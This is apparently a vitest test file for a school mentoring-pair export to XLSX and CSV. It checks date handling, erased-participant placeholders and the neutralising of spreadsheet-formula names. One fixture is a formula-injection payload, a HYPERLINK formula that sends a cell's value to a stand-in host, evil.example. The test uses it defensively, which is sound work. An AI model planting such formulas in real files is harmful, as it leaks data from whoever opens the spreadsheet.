import type { Kysely } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildPairsExport } from "../../src/exports/pairs-export.js";
import { loadTranslator, type Translator } from "../../src/i18n/translator.js";
import { createPersonRepository } from "../../src/journey/person.repository.js";
import type { Category, Database, Side } from "../../src/storage/tables.js";
import { createTestDatabase, type TestDatabase } from "../support/database.js";
import { excelSerial, readXlsx } from "../support/xlsx-reader.js";

/** 2026-12-03 01:00 in Vladivostok (UTC+10), still 2 December in UTC. */
const NOW = new Date("2026-12-02T15:00:00Z");
const EVIL = '=HYPERLINK("http://evil.example/?q="&A1;"Открыть")';

let database: TestDatabase;
let db: Kysely<Database>;
let translator: Translator;
let ids: { program: number; otherProgram: number; pairs: { group: number; single: number } };

async function person(name: string | null): Promise<number> {
  const row = await db
    .insertInto("person")
    .values({ display_name: name, locale: "ru", is_minor: false, time_zone: null, erased_at: null })
    .returning("id")
    .executeTakeFirstOrThrow();
  return row.id;
}

async function participant(program: number, personId: number, side: Side, category: Category) {
  const row = await db
    .insertInto("participant")
    .values({ program_id: program, person_id: personId, side, category, capacity: null })
    .returning("id")
    .executeTakeFirstOrThrow();
  return row.id;
}

async function pair(
  program: number,
  mentor: number,
  mentees: number[],
  fields: { status: "proposed" | "confirmed" | "cancelled"; confirmedAt?: string; confirmedBy?: number },
) {
  const row = await db
    .insertInto("pair")
    .values({
      program_id: program,
      mentor_participant_id: mentor,
      status: fields.status,
      confirmed_at: fields.confirmedAt ?? null,
      confirmed_by_person_id: fields.confirmedBy ?? null,
      finished_at: null,
    })
    .returning("id")
    .executeTakeFirstOrThrow();
  for (const mentee of mentees)
    await db.insertInto("pair_mentee").values({ pair_id: row.id, mentee_participant_id: mentee }).execute();
  return row.id;
}

async function answered(
  personId: number,
  program: number,
  formKey: string,
  grade: string,
  status: "submitted" | "in_progress",
  submittedAt: string | null,
) {
  const session = await db
    .insertInto("form_session")
    .values({
      person_id: personId,
      program_id: program,
      form_key: formKey,
      form_version: 1,
      status,
      step: null,
      state: "{}",
      submitted_at: submittedAt,
    })
    .returning("id")
    .executeTakeFirstOrThrow();
  await db
    .insertInto("answer")
    .values({
      form_session_id: session.id,
      question_key: "grade",
      form_version: 1,
      value: JSON.stringify(grade),
    })
    .execute();
}

beforeAll(async () => {
  database = await createTestDatabase();
  db = database.db;
  translator = await loadTranslator();

  const organisation = await db
    .insertInto("organisation")
    .values({
      name: "Школа № 7",
      kind: "school",
      time_zone: "Asia/Vladivostok",
      municipality_id: null,
      legal_name: "МБОУ «Средняя общеобразовательная школа № 7»",
    })
    .returning("id")
    .executeTakeFirstOrThrow();
  const program = await db
    .insertInto("program")
    .values({
      organisation_id: organisation.id,
      name: "Учитель — ученик",
      form_key: "teacher_pupil",
      role_variant: null,
      academic_year: "2026/2027",
      starts_on: null,
      ends_on: null,
      status: "active",
    })
    .returning("id")
    .executeTakeFirstOrThrow();
  const other = await db
    .insertInto("program")
    .values({
      organisation_id: organisation.id,
      name: "Другая",
      form_key: "pupil_pupil",
      role_variant: null,
      academic_year: "2026/2027",
      starts_on: null,
      ends_on: null,
    })
    .returning("id")
    .executeTakeFirstOrThrow();

  const curator = await person("Куратор Ольга Ивановна");
  const teacher = await person("Иванова Мария Петровна");
  const evil = await person(EVIL);
  const pupil = await person("Петров Пётр");
  const minus = await person("-Сидоров");
  const leaving = await person("Кузнецова Анна");
  const proposedOnly = await person("Предложенный Наставляемый");

  const teacherP = await participant(program.id, teacher, "mentor", "teacher");
  const evilP = await participant(program.id, evil, "mentor", "employer");
  const pupilP = await participant(program.id, pupil, "mentee", "pupil");
  const minusP = await participant(program.id, minus, "mentee", "pupil");
  const leavingP = await participant(program.id, leaving, "mentee", "pupil");
  const proposedP = await participant(program.id, proposedOnly, "mentee", "pupil");

  // Vladivostok is UTC+10: 15:30 UTC on the 2nd is already the 3rd there.
  const group = await pair(program.id, teacherP, [pupilP, leavingP], {
    status: "confirmed",
    confirmedAt: "2026-12-02T15:30:00Z",
    confirmedBy: curator,
  });
  const single = await pair(program.id, evilP, [minusP], {
    status: "confirmed",
    confirmedAt: "2026-12-01T10:00:00Z",
  });
  await pair(program.id, teacherP, [proposedP], { status: "proposed" });
  await pair(program.id, evilP, [proposedP], { status: "cancelled" });

  // Another programme's confirmed pair stays out.
  const otherMentor = await participant(other.id, await person("Чужой Наставник"), "mentor", "pupil");
  const otherMentee = await participant(other.id, await person("Чужой Наставляемый"), "mentee", "pupil");
  await pair(other.id, otherMentor, [otherMentee], {
    status: "confirmed",
    confirmedAt: "2026-12-01T10:00:00Z",
  });

  // The latest submitted questionnaire names the grade; one still in progress does not count.
  await answered(pupil, program.id, "mentee_entry_pupil", "7", "submitted", "2026-11-01T10:00:00Z");
  await answered(pupil, program.id, "mentee_entry_pupil", "8", "submitted", "2026-11-20T10:00:00Z");
  await answered(minus, program.id, "mentee_entry_pupil", "9", "in_progress", null);
  await answered(leaving, program.id, "mentee_entry_pupil", "10", "submitted", "2026-11-01T10:00:00Z");
  // A teacher's class answer (left from choosing "pupil" first) is not a teacher's class.
  await answered(teacher, program.id, "mentor_entry", "11", "submitted", "2026-11-01T10:00:00Z");

  await createPersonRepository(db).erase(leaving, NOW);

  ids = { program: program.id, otherProgram: other.id, pairs: { group, single } };
});

afterAll(async () => {
  await database.close();
});

describe("buildPairsExport", () => {
  it("writes every confirmed mentor–mentee pair of the programme, cell for cell, in the XLSX", async () => {
    const file = await buildPairsExport(db, { programId: ids.program, locale: "ru", translator, now: NOW });
    expect(file).toBeDefined();
    expect(file!.fileName).toBe("Пары наставников, Учитель — ученик, 2026-12-03.xlsx");
    expect(file!.mimeType).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    expect(file!.pairCount).toBe(2);

    const [sheet] = readXlsx(file!.content);
    expect(sheet!.name).toBe("Пары");
    expect(sheet!.rows).toEqual([
      ["МБОУ «Средняя общеобразовательная школа № 7»"],
      [
        "Программа наставничества «Учитель — ученик», 2026/2027 учебный год. Закреплённые пары наставников и наставляемых на 03.12.2026",
      ],
      [],
      [
        "№",
        "Наставник",
        "Категория наставника",
        "Класс наставника",
        "Наставляемый",
        "Категория наставляемого",
        "Класс наставляемого",
        "Форма наставничества",
        "Дата закрепления",
        "Кто подтвердил",
      ],
      // Punctuation sorts before letters, so the neutralised formula name comes first.
      [
        1,
        `'${EVIL}`,
        "работодатель",
        null,
        "'-Сидоров",
        "ученик",
        null,
        "учитель — ученик",
        excelSerial("2026-12-01"),
      ],
      [
        2,
        "Иванова Мария Петровна",
        "педагог",
        null,
        "(данные удалены по просьбе участника)",
        "ученик",
        null,
        "учитель — ученик",
        excelSerial("2026-12-03"),
        "Куратор Ольга Ивановна",
      ],
      [
        3,
        "Иванова Мария Петровна",
        "педагог",
        null,
        "Петров Пётр",
        "ученик",
        "8 класс",
        "учитель — ученик",
        excelSerial("2026-12-03"),
        "Куратор Ольга Ивановна",
      ],
    ]);
    expect(sheet!.cells.get("A1")).toMatchObject({ bold: true });
    expect(sheet!.cells.get("B4")).toMatchObject({ bold: true });
    expect(sheet!.cells.get("A5")).toMatchObject({ kind: "number", bold: false });
    expect(sheet!.cells.get("I5")).toMatchObject({ kind: "number", format: "dd.mm.yyyy" });
    expect([...sheet!.cells.values()].some((cell) => cell.kind === "formula")).toBe(false);
    expect(JSON.stringify(sheet!.rows)).not.toContain("Кузнецова");
  });

  it("returns the rows it wrote, before neutralisation, with days in the organisation's zone", async () => {
    const file = await buildPairsExport(db, { programId: ids.program, locale: "ru", translator, now: NOW });
    expect(
      file!.rows.map((row) => [row.number, row.pairId, row.mentor.name, row.mentee.name, row.confirmedOn]),
    ).toEqual([
      [1, ids.pairs.single, EVIL, "-Сидоров", "2026-12-01"],
      [2, ids.pairs.group, "Иванова Мария Петровна", "(данные удалены по просьбе участника)", "2026-12-03"],
      [3, ids.pairs.group, "Иванова Мария Петровна", "Петров Пётр", "2026-12-03"],
    ]);
    expect(file!.program).toEqual({ id: ids.program, name: "Учитель — ученик" });
  });

  it("writes the CSV in English with the header first, neutralised, days as ISO dates; a zone may be given", async () => {
    const file = await buildPairsExport(db, {
      programId: ids.program,
      locale: "en",
      translator,
      format: "csv",
      timeZone: "Europe/Kaliningrad",
      now: NOW,
    });
    expect(file!.fileName).toBe("Mentoring pairs, Учитель — ученик, 2026-12-02.csv");
    expect(file!.mimeType).toBe("text/csv; charset=utf-8");
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(file!.content);
    expect(text.split("\r\n")).toEqual([
      "\uFEFFNo.;Mentor;Mentor's category;Mentor's grade;Mentee;Mentee's category;Mentee's grade;Mentoring form;Confirmed on;Confirmed by",
      `1;"'=HYPERLINK(""http://evil.example/?q=""&A1;""Открыть"")";employer;;'-Сидоров;pupil;;teacher — pupil;2026-12-01;`,
      "2;Иванова Мария Петровна;teacher;;(data erased at the participant's request);pupil;;teacher — pupil;2026-12-02;Куратор Ольга Ивановна",
      "3;Иванова Мария Петровна;teacher;;Петров Пётр;pupil;Grade 8;teacher — pupil;2026-12-02;Куратор Ольга Ивановна",
      "",
    ]);
  });

  it("has only the header for a programme without confirmed pairs, and nothing for an unknown one", async () => {
    await db
      .updateTable("pair")
      .set({ status: "finished" })
      .where("program_id", "=", ids.otherProgram)
      .execute();
    const empty = await buildPairsExport(db, {
      programId: ids.otherProgram,
      locale: "ru",
      translator,
      now: NOW,
    });
    expect(empty!.rows).toEqual([]);
    expect(empty!.pairCount).toBe(0);
    expect(readXlsx(empty!.content)[0]!.rows).toHaveLength(4);
    expect(await buildPairsExport(db, { programId: 999_999, locale: "ru", translator })).toBeUndefined();
  });
});
